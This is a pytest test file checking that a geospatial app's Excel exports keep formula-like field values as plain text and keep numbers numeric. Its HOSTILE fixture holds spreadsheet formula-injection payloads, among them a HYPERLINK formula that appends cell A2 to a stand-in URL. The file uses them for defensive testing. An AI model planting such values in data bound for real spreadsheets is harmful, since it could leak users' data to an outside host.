"""Text that looks like a spreadsheet formula never becomes one in a workbook the app writes: the
layer export, the ledger and an upload's problem list keep it as the text that was typed, and
numbers (negative ones too) stay numbers."""

from __future__ import annotations

import io

import geopandas as gpd
import pytest
from openpyxl import load_workbook
from shapely.geometry import box

from geo.core.config import Settings
from geo.engine.write import Change, apply
from geo.ingest import Options, Upload, prepare
from geo.report import write_report
from geo.report.export import selection, write

HOSTILE = {
    "party": '=HYPERLINK("http://x/"&A2,"点我")',
    "measure": "+1+1",
    "case_no": "@SUM(A1)",
    "decision_no": "-2+3",
    "approval_no": "\t制表符开头",
}


def _hostile_polygon(store) -> int:
    """An official demo polygon whose text fields hold formula-like text, written through the
    write path; its NDVI is a negative number."""
    batches = store.batches("change")
    official = set(batches.loc[batches["purpose"] == "official", "id"].astype(int))
    frame = store.read_layer("change", columns=["version", "batch_id"], geometry=False,
                             where={"batch_id": sorted(official)})
    fid, version = int(frame["id"].iloc[0]), int(frame["version"].iloc[0])
    apply(store, Change("change", fid, "edit", "staff", values={**HOSTILE, "ndvi_before": -0.25,
                                                                  "fine_yuan": 1500.0}, version=version))
    return fid


def _cells(path_or_bytes):
    wb = load_workbook(io.BytesIO(path_or_bytes) if isinstance(path_or_bytes, bytes) else path_or_bytes)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                yield ws.title, cell


def _assert_no_formula(cells) -> dict:
    """No cell is a formula; every hostile text is there, as text with the quote prefix.
    Returns {hostile text: cell}."""
    found = {}
    for sheet, cell in cells:
        assert cell.data_type != "f", (sheet, cell.coordinate, cell.value)
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert cell.data_type == "s" and cell.quotePrefix, (sheet, cell.coordinate, cell.value)
        if cell.value in HOSTILE.values():
            found[cell.value] = cell
    return found


def test_layer_export_to_excel_keeps_formula_like_text_as_text(demo_store, tmp_path):
    fid = _hostile_polygon(demo_store)
    lyr, frame = selection(demo_store, "change", ids=[fid])
    out = write(frame, lyr, "xlsx", tmp_path / "变化图斑.xlsx")
    found = _assert_no_formula(_cells(out))
    assert set(found) == set(HOSTILE.values())  # shown exactly as typed
    ws = load_workbook(out).active
    head = [c.value for c in ws[1]]
    row = [c for c in ws[2]]
    ndvi = row[head.index("前期NDVI均值")]
    fine = row[head.index("罚款(元)")]
    assert ndvi.data_type == "n" and ndvi.value == -0.25  # a negative number is a number
    assert fine.data_type == "n" and fine.value == 1500.0


def test_the_ledger_keeps_formula_like_text_as_text(demo_store, tmp_path):
    _hostile_polygon(demo_store)
    out = write_report(demo_store, "xlsx", tmp_path / "台账.xlsx", settings=Settings(), internal=True)
    found = _assert_no_formula(_cells(out))
    assert set(found) == set(HOSTILE.values())
    ws = load_workbook(out)["变化图斑"]
    head = [c.value for c in ws[2]]
    row = next(r for r in ws.iter_rows(min_row=3) if r[head.index("当事人")].value == HOSTILE["party"])
    ndvi = row[head.index("前期NDVI均值")]
    assert ndvi.data_type == "n" and ndvi.value == -0.25
    assert row[head.index("罚款(元)")].data_type == "n" and row[head.index("罚款(元)")].value == 1500.0
    summary = load_workbook(out)["汇总指标"]
    assert all(r[2].data_type == "n" for r in summary.iter_rows(min_row=3, max_row=6))  # figures stay numbers


@pytest.fixture
def county_store(tmp_path):
    from geo.store import open_store

    store = open_store(str(tmp_path / "s.gpkg"), create=True)
    frame = gpd.GeoDataFrame({"code": ["152224"], "name": ["突泉县"], "level": "county"},
                             geometry=[box(120.9, 45.3, 122.1, 46.05)], crs=4490)
    with store.transaction() as tx:
        store.insert_features(tx, "admin", frame, actor="test")
    return store


def test_an_uploads_problem_list_keeps_formula_like_values_as_text(county_store):
    # two features with the same polygon number: a problem row quoting that number
    geoms = [box(121.54 + i * 0.01, 45.64, 121.544 + i * 0.01, 45.644) for i in range(3)]
    numbers = [HOSTILE["party"], HOSTILE["party"], "-2+3"]
    frame = gpd.GeoDataFrame({"PAN_NO_TB": numbers, "XIAN": "突泉县", "BEIZHU": "@SUM(A1)"},
                             geometry=geoms, crs=4490)
    upload = Upload.from_bytes("批次.geojson", frame.to_json().encode("utf-8"))
    report = prepare(upload, Options(layer="change", batch="2024年第1期", source="国家森林督查"), county_store)
    assert len(report.problem_table("zh")), "the test needs a problem row"
    found = _assert_no_formula(_cells(report.to_excel("zh")))
    assert HOSTILE["party"] in found
